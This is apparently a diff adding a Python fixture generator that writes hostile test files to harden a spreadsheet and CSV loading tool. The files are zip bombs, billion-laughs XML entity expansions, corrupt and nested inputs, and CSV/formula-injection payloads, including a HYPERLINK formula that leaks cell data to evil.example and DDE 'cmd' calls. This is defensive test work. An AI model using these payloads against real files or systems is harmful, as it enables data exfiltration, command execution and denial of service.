@@ -1,0 +1,405 @@
+"""Write tests/data/hostile/: files built to break powerlist's loaders (issue 7 §3).
+
+    python tools/make_hostile.py [DIRECTORY]
+
+Every file is small on disk (the bombs too). Each file's name says which loader it attacks
+(its prefix) and how; `tests/test_hostile.py` holds the table of what each must produce. A
+10 MB cell is written at test time (a file that large would not be committed), and the
+catalog files replace one workbook of a copy of the shipped catalogs.
+
+| prefix | loader |
+|---|---|
+| power-list | `load_power_list`, `powerlist catalog check FILE` |
+| catalog-<file> | `load_catalogs` on the shipped catalogs with `<file>.xlsx` replaced |
+| delegation | `load_delegation_workbook` against the shipped catalog |
+| issues | `read_issues` + `Router.route_many`, `powerlist route FILE` |
+| rules | `RuleSet.load` on the shipped rules with `routing.toml` replaced, `route --rules` |
+| whistles | `read_whistles`, `powerlist score --input FILE` |
+"""
+
+from __future__ import annotations
+
+import io
+import json
+import random
+import shutil
+import struct
+import sys
+import zipfile
+from datetime import datetime
+from pathlib import Path
+from typing import Any
+
+import openpyxl
+
+ROOT = Path(__file__).resolve().parent.parent
+CATALOGS = ROOT / "catalogs"
+RULES = ROOT / "rules"
+FIXED = datetime(2026, 1, 1)  # document properties, so the files do not change on every run
+
+BILLION_LAUGHS = (
+    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
+    + b"".join(
+        f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">'.encode()
+        for n in range(1, 10)
+    )
+    + b"]>\n"
+)
+POWER_HEADER = ["序号", "事项编码", "事项名称", "子项", "权力类型", "实施主体", "实施依据", "责任事项",
+                "追责情形", "承接方式", "来源", "备注"]
+ISSUE_HEADER = ["工单编号", "受理时间", "问题分类", "发生地点", "渠道", "诉求类型", "问题描述"]
+WHISTLE_HEADER = ["案件编号", "街道", "责任单位", "部门", "哨类", "等级", "受理时间", "响应时限", "响应时间",
+                  "办结时限", "办结时间", "满意度", "第三方回访得分", "延期次数", "重办次数", "街道自有权力"]
+INJECTIONS = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+)
+
+
+def book(rows: list[list[Any]], title: str = "Sheet1") -> openpyxl.Workbook:
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    ws.title = title
+    for row in rows:
+        ws.append(row)
+    wb.properties.created = wb.properties.modified = FIXED
+    return wb
+
+
+def save(wb: openpyxl.Workbook) -> bytes:
+    buffer = io.BytesIO()
+    wb.save(buffer)
+    return buffer.getvalue()
+
+
+def power_list(rows: list[list[Any]] | None = None) -> openpyxl.Workbook:
+    body = rows if rows is not None else [
+        [1, "1001", "对占道经营的处罚", None, "行政处罚", "城管", "《城市市容和环境卫生管理条例》第十四条",
+         "受理责任：依法受理", None, "下放", "示意", None],
+    ]
+    return book([["街道通用权责清单（示意）"], POWER_HEADER, *body], "通用权责清单")
+
+
+def rewrite(data: bytes, part: str, new: bytes | None = None, *, extra: dict[str, bytes] | None = None,
+            method: int = zipfile.ZIP_DEFLATED) -> bytes:
+    """`data` (a zip) with `part` replaced by `new` (or dropped when None), plus `extra` parts."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w", method) as zout:
+        for info in zin.infolist():
+            if info.filename == part:
+                if new is not None:
+                    zout.writestr(info.filename, new)
+                continue
+            zout.writestr(info.filename, zin.read(info))
+        for name, content in (extra or {}).items():
+            zout.writestr(name, content)
+    return out.getvalue()
+
+
+def part(data: bytes, name: str) -> bytes:
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        return archive.read(name)
+
+
+def with_entities(xml: bytes) -> bytes:
+    """A sheet's XML under a billion-laughs DTD, its first cell referencing the expansion."""
+    body = xml.split(b"?>", 1)[1] if xml.startswith(b"<?xml") else xml
+    body = body.replace(b"<sheetData>", b'<sheetData><row r="100"><c r="A100" t="inlineStr"><is><t>&lol9;'
+                        b"</t></is></c></row>", 1)
+    return BILLION_LAUGHS + body
+
+
+def with_shared_strings(data: bytes, sst: bytes) -> bytes:
+    """`data` (an openpyxl workbook, which writes inline strings) with a sharedStrings part
+    `sst`, registered in the package, and its cell A1 reading shared string 0."""
+    types = part(data, "[Content_Types].xml").replace(b"</Types>", (
+        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
+        b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'))
+    rels = part(data, "xl/_rels/workbook.xml.rels").replace(b"</Relationships>", (
+        b'<Relationship Id="rIdSST" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        b'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>'))
+    sheet = part(data, "xl/worksheets/sheet1.xml")
+    start = sheet.index(b'<c r="A1"')
+    end = sheet.index(b"</c>", start) + len(b"</c>")
+    sheet = sheet[:start] + b'<c r="A1" t="s"><v>0</v></c>' + sheet[end:]
+    data = rewrite(data, "[Content_Types].xml", types)
+    data = rewrite(data, "xl/_rels/workbook.xml.rels", rels)
+    return rewrite(data, "xl/worksheets/sheet1.xml", sheet, extra={"xl/sharedStrings.xml": sst})
+
+
+def forged_sizes(data: bytes, size: int) -> bytes:
+    """`data` (a zip) whose central directory declares every part `size` bytes uncompressed."""
+    blob = bytearray(data)
+    position = 0
+    while (position := blob.find(b"PK\x01\x02", position)) >= 0:
+        struct.pack_into("<I", blob, position + 24, size)  # uncompressed size
+        position += 4
+    return bytes(blob)
+
+
+def sheet_with_formulas(cells: list[tuple[str, str]]) -> bytes:
+    """A worksheet XML whose cells are formulas without cached values."""
+    header = "".join(
+        f'<c r="{chr(65 + i)}1" t="inlineStr"><is><t>{name}</t></is></c>'
+        for i, name in enumerate(["事项编码", "事项名称", "权力类型"])
+    )
+    rows = []
+    for n, (code, formula) in enumerate(cells, start=2):
+        rows.append(
+            f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>{code}</t></is></c>'
+            f'<c r="B{n}"><f>{formula}</f></c>'
+            f'<c r="C{n}" t="inlineStr"><is><t>行政处罚</t></is></c></row>'
+        )
+    return (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+        f'<sheetData><row r="1">{header}</row>{"".join(rows)}</sheetData></worksheet>'
+    ).encode()
+
+
+def xml_escape(text: str) -> str:
+    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
+
+
+def catalog_workbook(name: str) -> openpyxl.Workbook:
+    wb = openpyxl.load_workbook(CATALOGS / name)
+    wb.properties.created = wb.properties.modified = FIXED
+    return wb
+
+
+def header_column(ws: Any, title: str) -> tuple[int, int]:
+    """(header row, column) of `title` in the first 20 rows of `ws`."""
+    for row in ws.iter_rows(min_row=1, max_row=20):
+        for cell in row:
+            if isinstance(cell.value, str) and cell.value.strip() == title:
+                return cell.row, cell.column
+    raise KeyError(title)
+
+
+def build() -> dict[str, bytes]:
+    rng = random.Random(7)
+    files: dict[str, bytes] = {}
+    valid = save(power_list())
+
+    # ---- power list ------------------------------------------------------------------------
+    files["power-list--truncated.xlsx"] = valid[: len(valid) // 2]
+    files["power-list--xls-renamed.xlsx"] = (
+        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(rng.randrange(256) for _ in range(4088)))
+    files["power-list--csv-renamed.xlsx"] = ",".join(POWER_HEADER).encode("utf-8-sig") + (
+        "\n1,1001,对占道经营的处罚,,行政处罚,城管,,,,下放,示意,\n".encode())
+    files["power-list--empty.xlsx"] = b""
+    files["power-list--binary-garbage.xlsx"] = bytes(rng.randrange(256) for _ in range(2048))
+    bomb = io.BytesIO()
+    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
+        for name in ("[Content_Types].xml", "xl/workbook.xml", "xl/_rels/workbook.xml.rels"):
+            archive.writestr(name, part(valid, name))
+        archive.writestr("xl/worksheets/sheet1.xml", b" " * (64 * 1024 * 1024))
+    files["power-list--zip-bomb.xlsx"] = bomb.getvalue()
+    files["power-list--zip-bomb-declared.xlsx"] = forged_sizes(valid, 0xFFFF_FFF0)
+    files["power-list--entities-in-sheet.xlsx"] = rewrite(
+        valid, "xl/worksheets/sheet1.xml", with_entities(part(valid, "xl/worksheets/sheet1.xml")))
+    files["power-list--entities-in-shared-strings.xlsx"] = with_shared_strings(
+        valid, BILLION_LAUGHS + b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
+        b'count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>')
+    files["power-list--corrupt-sheet-xml.xlsx"] = rewrite(
+        valid, "xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row r=\"1\"><c r=\"A1\"")
+    files["power-list--no-workbook-part.xlsx"] = rewrite(valid, "xl/workbook.xml")
+    files["power-list--formula-injection.xlsx"] = rewrite(
+        valid, "xl/worksheets/sheet1.xml",
+        sheet_with_formulas([(str(2000 + n), xml_escape(f.lstrip("=@+\t"))) for n, f in enumerate(INJECTIONS)]))
+    files["power-list--unknown-kind.xlsx"] = save(power_list([
+        [1, "1001", "对占道经营的处罚", None, "行政魔法", "城管", None, None, None, "下放", "示意", None],
+        [2, "1002", "对乱贴小广告的处罚", None, "99", "城管", None, None, None, "传送", "示意", None],
+    ]))
+    dup = book([["序号", "事项编码", "事项名称", "事项名称", "权力类型"], [1, "1001", "甲", "乙", "行政处罚"]])
+    files["power-list--duplicate-headers.xlsx"] = save(dup)
+    hidden = power_list()
+    hidden.active.sheet_state = "hidden"
+    hidden.create_sheet("说明").append([None])
+    hidden.active = 1
+    files["power-list--hidden-sheet-only.xlsx"] = save(hidden)
+    files["power-list--wrong-types.xlsx"] = save(power_list([
+        [1, True, "对占道经营的处罚", None, datetime(2026, 7, 1), "城管", None, None, None, 3.5, None, None],
+        [2, "1002", 12345, None, -7, "城管", None, None, None, None, None, None],
+    ]))
+    files["power-list--duplicate-codes.xlsx"] = save(power_list([
+        [1, "1001", "甲", None, "行政处罚", "城管", None, None, None, None, "示意", None],
+        [2, "１００１", "乙", None, "行政处罚", "城管", None, None, None, None, "示意", None],
+    ]))
+    files["power-list--no-header.xlsx"] = save(book([["随便写的表"], ["a", "b", "c"], [1, 2, 3]]))
+    files["power-list--empty-code.xlsx"] = save(power_list([
+        [1, None, "对占道经营的处罚", None, "行政处罚", "城管", None, None, None, None, "示意", None],
+    ]))
+
+    # ---- catalogs (one workbook of the shipped catalogs replaced) ----------------------------
+    org = catalog_workbook("organisation.xlsx")
+    ws = org["街道"]
+    row, col = header_column(ws, "所属区县编码")
+    ws.cell(row + 1, col).value = "999999"
+    files["catalog-organisation--unknown-district.xlsx"] = save(org)
+    org = catalog_workbook("organisation.xlsx")
+    del org["部门"]
+    files["catalog-organisation--missing-sheet.xlsx"] = save(org)
+    org = catalog_workbook("organisation.xlsx")
+    ws = org["街道"]
+    row, col = header_column(ws, "编制人数")
+    ws.cell(row + 1, col).value = "三十人"
+    ws.cell(row + 2, col).value = datetime(2026, 1, 1)
+    files["catalog-organisation--wrong-types.xlsx"] = save(org)
+    tax = catalog_workbook("taxonomy.xlsx")
+    ws = tax["问题分类"]
+    row, col = header_column(ws, "吹哨范围")
+    ws.cell(row + 1, col).value = "随便吹"
+    prow, pcol = header_column(ws, "上级分类编码")
+    crow, ccol = header_column(ws, "分类编码")
+    first, second = ws.cell(row + 2, ccol).value, ws.cell(row + 3, ccol).value
+    ws.cell(row + 2, pcol).value, ws.cell(row + 3, pcol).value = second, first
+    files["catalog-taxonomy--bad-scope-and-cycle.xlsx"] = save(tax)
+    cal = catalog_workbook("calendar_overrides.xlsx")
+    ws = cal["调休调整"]
+    row, col = header_column(ws, "日期")
+    trow, tcol = header_column(ws, "类型")
+    for n, (day, kind) in enumerate([("2026年10月10日", "上班"), ("10/11/2026", "上班"),
+                                     ("2026-02-30", "休息"), ("2026-10-12", "放个假")], start=1):
+        ws.cell(row + n, col).value = day
+        ws.cell(row + n, tcol).value = kind
+    files["catalog-calendar--dates-as-text.xlsx"] = save(cal)
+    files["catalog-power-list--truncated.xlsx"] = (CATALOGS / "power_list.xlsx").read_bytes()[:20_000]
+
+    # ---- delegation workbooks ------------------------------------------------------------------
+    delegation_header = ["序号", "事项编码", "事项名称", "权力类型", "实施主体", "实施依据", "街道", "承接方式", "来源"]
+    plist = openpyxl.load_workbook(CATALOGS / "power_list.xlsx", read_only=True)
+    sheet = plist.worksheets[0]
+    code = None
+    for values in sheet.iter_rows(values_only=True):
+        if values and values[1] and str(values[1]).strip() not in ("事项编码",) and values[0] is not None \
+                and str(values[0]).strip().isdigit():
+            code = str(values[1]).strip()
+            break
+    plist.close()
+    files["delegation--unknown-street-and-mode.xlsx"] = save(book([
+        ["街道承接情况（示意）"], delegation_header,
+        [1, code, None, "行政处罚", None, None, "不存在街道", "下放", "示意"],
+        [2, code, None, "行政处罚", None, None, "420202001", "随缘", "示意"],
+        [3, "NO-SUCH-ITEM", "没有这个事项", "行政处罚", None, None, "420202001、火星街道", "下放", "示意"],
+    ], "街道承接"))
+    files["delegation--zip-bomb-declared.xlsx"] = forged_sizes(save(book([delegation_header])), 0x7FFF_FFFF)
+
+    # ---- issues ----------------------------------------------------------------------------------
+    good = "HS-1,2026-07-01T09:00:00,RX0302,420202001001,12345,求助,邻里纠纷\n"
+    files["issues--bom-mixed-encoding.csv"] = (
+        b"\xef\xbb\xbf" + ",".join(ISSUE_HEADER).encode() + b"\n" + good.encode()
+        + "HS-2,2026-07-01T10:00:00,RX0302,420202001001,12345,求助,楼道堆放杂物\n".encode("gbk"))
+    files["issues--gb18030.csv"] = (",".join(ISSUE_HEADER) + "\n" + good).encode("gb18030")
+    files["issues--empty.csv"] = b""
+    files["issues--nul-bytes.csv"] = (",".join(ISSUE_HEADER) + "\n").encode() + b"HS-1\x00,\x00\x00\n"
+    files["issues--duplicate-headers.csv"] = (
+        "工单编号,受理时间,问题分类,分类编码,发生地点\nHS-1,2026-07-01T09:00:00,RX0302,BJ0104,420202001001\n"
+    ).encode()
+    files["issues--dates-as-text.csv"] = (
+        ",".join(ISSUE_HEADER) + "\n"
+        "HS-1,2026年7月1日上午,RX0302,420202001001,12345,求助,x\n"
+        "HS-2,下周一,RX0302,420202001001,12345,求助,x\n"
+        "HS-3,45843,RX0302,420202001001,12345,求助,x\n").encode()
+    files["issues--formula-injection.csv"] = (
+        ",".join(ISSUE_HEADER) + "\n" + "".join(
+            f'"{value.replace(chr(34), chr(34) * 2)}",2026-07-01T09:00:00,RX0302,420202001001,12345,求助,'
+            f'"{value.replace(chr(34), chr(34) * 2)}"\n' for value in INJECTIONS)
+        + '"=1+1",2026-07-01T09:00:00,"=HYPERLINK(""http://evil.example"")",420202001001,12345,求助,x\n'
+    ).encode()
+    lines = [json.dumps({"id": v, "received_at": "2026-07-01T09:00:00", "category": "RX0302",
+                         "location": "420202001001", "description": v}, ensure_ascii=False)
+             for v in INJECTIONS]
+    lines.append(json.dumps({"id": "X1", "received_at": "2026-07-01T09:00:00", "category": INJECTIONS[0],
+                             "location": INJECTIONS[1]}, ensure_ascii=False))
+    files["issues--formula-injection.jsonl"] = ("\n".join(lines) + "\n").encode()
+    files["issues--deeply-nested.jsonl"] = b"[" * 100_000 + b"]" * 100_000 + b"\n" + (
+        b'{"id": {"a": ' * 20_000 + b"1" + b"}" * 20_000 + b"}\n")
+    files["issues--huge-number.jsonl"] = (
+        b'{"id": "HS-1", "received_at": "2026-07-01T09:00:00", "category": "RX0302", '
+        b'"location": "420202001001", "repeat_count": ' + b"9" * 10_000 + b"}\n")
+    files["issues--huge-line.jsonl"] = json.dumps({
+        "id": "HS-1", "received_at": "2026-07-01T09:00:00", "category": "RX0302", "location": "420202001001",
+        "description": "长" * 100_000}, ensure_ascii=False).encode() + b"\n"
+    files["issues--wrong-types.jsonl"] = "\n".join([
+        json.dumps({"id": ["HS-1"], "received_at": 12345, "category": True, "location": None}),
+        json.dumps({"id": "HS-2", "received_at": "2026-07-01T09:00", "category": "RX0302",
+                    "location": "420202001001", "emergency": "maybe", "repeat_count": -1}),
+        json.dumps([1, 2, 3]),
+        json.dumps("just a string"),
+        '{"id": "HS-3", "received_at": NaN}',
+    ]).encode() + b"\n"
+    files["issues--unknown-codes.jsonl"] = (json.dumps({
+        "id": "HS-1", "received_at": "2026-07-01T09:00:00", "category": "NO-SUCH", "location": "000000"},
+        ensure_ascii=False) + "\n").encode()
+    files["issues--binary-garbage.jsonl"] = bytes(rng.randrange(256) for _ in range(1024))
+    issue_book = book([["12345热线工单导出"], ISSUE_HEADER,
+                       ["HS-1", "2026-07-01 09:00", "RX0302", "420202001001", "12345", "求助", "x"]], "工单")
+    issue_bytes = save(issue_book)
+    files["issues--truncated.xlsx"] = issue_bytes[: len(issue_bytes) - 300]
+    files["issues--entities.xlsx"] = rewrite(
+        issue_bytes, "xl/worksheets/sheet1.xml", with_entities(part(issue_bytes, "xl/worksheets/sheet1.xml")))
+    issue_book.active.sheet_state = "hidden"
+    issue_book.create_sheet("封面").append(["工单导出"])
+    issue_book.active = 1
+    files["issues--hidden-sheet-only.xlsx"] = save(issue_book)
+    files["issues--csv-renamed.xlsx"] = (",".join(ISSUE_HEADER) + "\n" + good).encode()
+
+    # ---- rules -----------------------------------------------------------------------------------
+    files["rules--invalid-toml.toml"] = b'[meta]\nname = "routing"\n[[tables]\nname = "whistle"\nrows = [ {'
+    files["rules--wrong-types.toml"] = "\ufeff".encode() + (
+        '[meta]\nname = "routing"\n[params]\nrepeat_threshold = "three"\n'
+        '[[tables]]\nname = "whistle"\nhit_policy = 5\ninputs = "emergency"\noutputs = ["whistle"]\n'
+        'rows = [ { when = { emergency = true }, then = { whistle = "emergency" } } ]\n'
+        '[[tables]]\nname = "lead"\nhit_policy = "first"\ninputs = ["whistle"]\noutputs = ["lead"]\n'
+        'rows = [ "not a row", { when = { nope = 1 }, then = { other = 2 }, priority = "high" } ]\n'
+    ).encode()
+    files["rules--deeply-nested.toml"] = b"x = " + b"[" * 50_000 + b"]" * 50_000 + b"\n"
+    files["rules--binary-garbage.toml"] = bytes(rng.randrange(256) for _ in range(512))
+    files["rules--missing-tables.toml"] = b'[meta]\nname = "routing"\n[params]\nrepeat_threshold = 3\n'
+
+    # ---- whistle spreadsheets (scoring) ------------------------------------------------------------
+    row = ["W-1", "420202001", "420202-cg", "cg", "日常哨", "C", "2026-07-01 09:00", "2026-07-02 23:59:59",
+           "2026-07-01 10:00", "2026-07-15 23:59:59", "2026-07-10 16:00", "满意", 90, 0, 0, "否"]
+    files["whistles--formula-injection.csv"] = ("\ufeff" + ",".join(WHISTLE_HEADER) + "\n" + "".join(
+        ",".join(f'"{c}"' for c in [value.replace('"', '""'), "420202001", value.replace('"', '""'), *map(str, row[3:])]) + "\n"
+        for value in INJECTIONS)).encode()
+    files["whistles--bad-values.csv"] = (",".join(WHISTLE_HEADER) + "\n" + ",".join(
+        ["W-1", "420202001", "420202-cg", "cg", "魔法哨", "Z", "昨天", "2026-07-02", "", "", "", "非常满意",
+         "一百", "-1", "两次", "也许"]) + "\n" + ",".join(map(str, row)) + "\n" + ",".join(map(str, row)) + "\n"
+    ).encode()
+    files["whistles--duplicate-headers.csv"] = (
+        "案件编号,街道,责任单位,街道编码,受理时间\nW-1,420202001,420202-cg,420202002,2026-07-01 09:00\n").encode()
+    files["whistles--mixed-encoding.csv"] = (
+        ",".join(WHISTLE_HEADER).encode() + b"\n" + ",".join(map(str, row)).encode("gbk") + b"\n")
+    whistle_book = save(book([["晒单"], WHISTLE_HEADER, row], "哨"))
+    files["whistles--truncated.xlsx"] = whistle_book[:-200]
+    files["whistles--dates-as-text.xlsx"] = save(book([WHISTLE_HEADER, [
+        "W-1", "420202001", "420202-cg", "cg", "日常哨", "C", "七月一日", "下周", None, None, None, "满意", 90,
+        0, 0, "否"]], "哨"))
+    return files
+
+
+def main(argv: list[str]) -> int:
+    target = Path(argv[1]) if len(argv) > 1 else ROOT / "tests" / "data" / "hostile"
+    if target.exists():
+        for old in target.iterdir():
+            if old.is_file() and old.name != "README.md":
+                old.unlink()
+            elif old.is_dir():
+                shutil.rmtree(old)
+    target.mkdir(parents=True, exist_ok=True)
+    files = build()
+    for name, data in sorted(files.items()):
+        (target / name).write_bytes(data)
+    print(f"wrote {len(files)} files to {target} ({sum(map(len, files.values())) // 1024} KiB)")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main(sys.argv))
